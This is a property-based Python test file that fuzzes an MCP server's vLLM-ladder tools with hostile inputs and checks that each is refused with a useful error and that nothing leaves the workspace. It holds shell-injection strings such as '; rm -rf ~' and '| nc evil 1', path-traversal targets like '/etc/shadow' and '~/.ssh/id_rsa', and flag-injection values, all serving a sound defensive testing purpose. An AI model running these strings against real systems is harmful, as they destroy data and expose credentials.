"""Hostile and malformed inputs across every tool (hypothesis, 600+ calls through the in-process client).

Each call carries at least one bad argument: a wrong type, a number out of range, a
path out of the workspace (absolute, `..`, a symlink), or a flag or shell injection in a
name. Each must come back as a tool error with a useful message, within a few seconds,
with nothing written outside the workspace and no server booted.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from anyio.from_thread import BlockingPortal, start_blocking_portal
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp import Client

from redline.server.app import build_server
from tests.server.helpers import Env, fake_servers, init_args, text_of, write_env

EXAMPLES = 650
LADDER = "ladders/l8b.yml"

# ---- values: each of them must be refused where it is used ----------------------------------------

def _numeric(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


words = st.text(max_size=8).filter(lambda t: not _numeric(t) and t.strip().lower() not in ("true", "false"))
containers = st.one_of(st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2))
non_str = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), containers)
non_int = st.one_of(words, containers, st.floats(allow_nan=False, allow_infinity=False).filter(lambda f: f != int(f)))
non_float = st.one_of(words, containers)
injection = st.sampled_from([
    "; rm -rf ~", "$(touch pwned)", "`touch pwned`", "| nc evil 1", "&& reboot", "\n--help", "--help",
    "-oProxyCommand=touch pwned", "--served-model-name=x", "-rf", "--", "x\x00y", "\r\nINJECT", "${IFS}",
])
outside = st.sampled_from([
    "/etc/passwd", "/tmp/pwned.yml", "../outside/victim.yml", "ladders/../../outside/victim.yml", "../../../../etc/shadow",
    "escape/victim.yml", "escape/new.yml", "escape/sub/new.yml", "ladders/evil.yml", "~/.ssh/id_rsa.yml", "\\\\host\\share\\l.yml", ".redline/jobs/x.yml",
    "-rf.yml", "ladders/--help.yml", "", " ", "x" * 2000 + ".yml", "l\x00.yml", "l\n.yml",
])
# a ladder name no tool may create or read: out of the workspace, not a .yml, or with shell characters
unusable_ladder = st.one_of(outside, non_str, st.sampled_from(["ladders/l8b.json", "ladders", "ladders/l8b"]),
                            injection.map(lambda s: f"ladders/{s}.yml"))
bad_ladder = st.one_of(unusable_ladder, st.just("ladders/missing.yml"))  # for tools that read it
bad_new_ladder = st.one_of(unusable_ladder, st.just("ladders/l8b.yml"))  # for ladder_init: it exists
bad_target = st.one_of(non_str, injection, st.sampled_from(["gpu9", "LOCAL", "local ", "../local", "", "a" * 300]),
                       injection.map(lambda s: "local" + s))
bad_job_id = st.one_of(non_str, outside, injection, st.text(max_size=40).filter(lambda s: not s.startswith("j-2")),
                       st.just("j-20261130T100000Z-00000000"))
bad_wait = st.one_of(st.floats(max_value=-0.001), st.floats(min_value=300.001), non_float)
out_of_range = st.one_of(st.integers(min_value=1 << 26 + 1), st.integers(max_value=0), st.just(1 << 63), st.just(-(1 << 63)))
bad_count = st.one_of(out_of_range, non_int)
bad_replay = st.one_of(st.integers(max_value=0), st.integers(min_value=100_001), non_int)
markers = ("version", "vllm", "vLLM", "APIServer", "EngineCore", "non-default")
not_a_log = st.one_of(st.text(max_size=300).filter(lambda t: not any(m in t for m in markers)),
                      st.sampled_from(["", "INFO hello", "Traceback (most recent call last):"]))
bad_model_key = st.one_of(injection, st.just(""), st.just("x" * 201), st.just("a b"), non_str)
bad_model_path = st.one_of(st.sampled_from(["-rf", "--load-format=dummy", "--", "-x y", "a\x00b", "\x1b[2J", ""]), non_str)
bad_fraction = st.one_of(st.floats(max_value=0), st.floats(min_value=1.001), non_float)
# flag and shell injection in the extra flags and env of the knobs a ladder holds fixed
bad_flag = st.one_of(injection, st.sampled_from([
    "--host=0.0.0.0", "--port=22", "--max-model-len=1", "--model=/etc", "-cc", "--x y", "--X", "--a\nb", "foo",
    "--enforce-eager\n--trust-remote-code", "",
]))
bad_fixed = st.one_of(
    st.builds(lambda flags: {"extra_flags": flags}, st.lists(bad_flag, min_size=1, max_size=3)),
    st.builds(lambda k: {"env": {k: "1"}}, st.sampled_from(["A B", "1X", "X;Y", "$(x)", "", "A=B", "-x"])),
    st.builds(lambda v: {"env": {"VLLM_X": v}}, st.sampled_from(["a\x00b", "x" * 5000])),
    st.builds(lambda p: {"port": p}, st.one_of(st.integers(max_value=0), st.integers(min_value=65536), non_int)),
    st.builds(lambda v: {"kv_cache_dtype": v}, st.sampled_from(["fp8; rm -rf /", "--x", "FP8", ""])),
    st.builds(lambda v: {"host": v}, st.sampled_from(["0.0.0.0 --x", "a;b", "$(id)", ""])),
    st.dictionaries(st.sampled_from(["evil", "model", "max_model_len", "command"]), st.integers(), min_size=1, max_size=2),
    non_str.filter(lambda v: not isinstance(v, dict)),
)

GOOD = {"ladder": st.just(LADDER), "target": st.just("local"), "wait_s": st.just(0.0), "replay": st.none()}

# tool -> every argument it takes, with values that must be refused there
TOOLS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
    "ladder_init": {"ladder": bad_new_ladder, "model": bad_model_key, "model_path": bad_model_path,
                    "floor_max_model_len": bad_count, "floor_max_num_batched_tokens": bad_count,
                    "gpu_memory_utilization": bad_fraction, "min_concurrency": bad_count,
                    "policy": st.one_of(injection, non_str), "gpu_count": bad_count, "fixed": bad_fixed},
    "ladder_status": {"ladder": bad_ladder},
    "ladder_next_rung": {"ladder": bad_ladder, "replay": bad_replay},
    "rung_run": {"ladder": bad_ladder, "target": bad_target, "replay": bad_replay, "wait_s": bad_wait},
    "smoke_test": {"ladder": bad_ladder, "target": bad_target, "wait_s": bad_wait},
    "rung_record": {"ladder": bad_ladder, "log_text": not_a_log, "log_file": st.one_of(outside, non_str, injection),
                    "bench_file": st.one_of(outside, injection)},
    "ceiling_record": {"ladder": bad_ladder},
    "parse_boot_log": {"text": st.one_of(not_a_log, non_str)},
    "job_status": {"job_id": bad_job_id, "wait_s": bad_wait},
    "job_cancel": {"job_id": bad_job_id},
    "job_list": {"state": st.one_of(injection, st.sampled_from(["done", "RUNNING"]), non_str), "limit": bad_count},
}
REQUIRED = {"ladder", "target", "job_id", "text", "model", "model_path", "floor_max_model_len",
            "floor_max_num_batched_tokens"}


def _good(tool: str, name: str) -> st.SearchStrategy[Any]:
    if tool == "ladder_init":
        return st.just(init_args("ladders/new.yml", fixed={"port": 18000}).get(name, 1))
    return GOOD.get(name, st.nothing())


@st.composite
def hostile_call(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """One tool and its arguments, one of them (at least) bad, so nothing can rightly succeed."""
    tool = draw(st.sampled_from(sorted(TOOLS)))
    fields = TOOLS[tool]
    bad = draw(st.sampled_from(sorted(fields)))
    args: dict[str, Any] = {}
    for name, bad_values in fields.items():
        if name == bad:
            args[name] = draw(bad_values)
        elif name in REQUIRED or tool == "ladder_init" or draw(st.booleans()):
            args[name] = draw(st.one_of(_good(tool, name), bad_values))
    return tool, args


# ---- the server, on an event loop of its own for the whole run -------------------------------------


def _tree(path: Path) -> dict[str, str]:
    """Every file under path, with a hash of its content."""
    return {str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
            for p in sorted(path.rglob("*"))}


class Harness:
    def __init__(self, portal: BlockingPortal, client: Client, env: Env) -> None:
        self.portal, self.client, self.env = portal, client, env
        self.calls = 0
        self.by_tool: dict[str, int] = {}

    def call(self, tool: str, args: dict[str, Any]) -> Any:
        async def go() -> Any:
            with anyio.fail_after(10):  # never hangs
                return await self.client.call_tool(tool, args)

        self.calls += 1
        self.by_tool[tool] = self.by_tool.get(tool, 0) + 1
        return self.portal.call(go)


@pytest.fixture(scope="module")
def harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    root = tmp_path_factory.mktemp("hostile")
    env = write_env(root / "srv")
    (root / "srv" / "outside").mkdir()
    (root / "srv" / "outside" / "victim.yml").write_text("do not touch\n")
    (env.workspace / "ladders").mkdir(parents=True)
    (env.workspace / "escape").symlink_to(root / "srv" / "outside")
    (env.workspace / "ladders" / "evil.yml").symlink_to(root / "srv" / "outside" / "evil.yml")
    with start_blocking_portal("asyncio") as portal:
        client = portal.wrap_async_context_manager(Client(build_server(env.config)))
        with client as c:
            h = Harness(portal, c, env)
            made = h.call("ladder_init", init_args(LADDER, fixed={"port": env.port}))
            assert not made.is_error, text_of(made)
            h.before = {"outside": _tree(root / "srv" / "outside"), "root": sorted(p.name for p in root.iterdir()),
                        "srv": sorted(p.name for p in (root / "srv").iterdir()), "target": (root / "srv" / "target").exists()}
            yield h


@settings(max_examples=EXAMPLES, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large])
@given(hostile_call())
def test_hostile_inputs_come_back_as_useful_tool_errors(harness: Harness, case: tuple[str, dict[str, Any]]) -> None:
    tool, args = case
    result = harness.call(tool, args)
    message = text_of(result)
    assert result.is_error, f"{tool}({args!r}) succeeded: {result.structured_content}"
    prefix = f"Error executing tool {tool}"
    assert message.startswith(prefix + ": "), f"{tool}({args!r}) crashed: {message!r}"  # not a bare crash
    assert len(message) > len(prefix) + 20, message


def test_after_the_hostile_inputs(harness: Harness) -> None:
    """Runs after the property: the count, and that nothing escaped the workspace or booted."""
    print(f"hostile calls: {harness.calls} {harness.by_tool}")
    assert harness.calls >= 500 and set(harness.by_tool) == set(TOOLS), harness.by_tool
    root = harness.env.root.parent
    assert _tree(root / "srv" / "outside") == harness.before["outside"]
    assert sorted(p.name for p in root.iterdir()) == harness.before["root"]
    assert sorted(p.name for p in (root / "srv").iterdir()) == harness.before["srv"]
    assert (root / "srv" / "target").exists() == harness.before["target"]  # no boot ever reached the target
    assert not fake_servers(harness.env.port)
    assert not Path("/tmp/pwned.yml").exists() and not list(root.rglob("pwned*"))
    ladders = sorted(p.name for p in (harness.env.workspace / "ladders").iterdir() if p.suffix != ".lock")
    assert ladders == ["evil.yml", "l8b.yml"]  # nothing created, and l8b.yml has no rung
    status = harness.call("ladder_status", {"ladder": LADDER})  # still serving, ladder intact
    assert not status.is_error and status.structured_content["rows"] == []
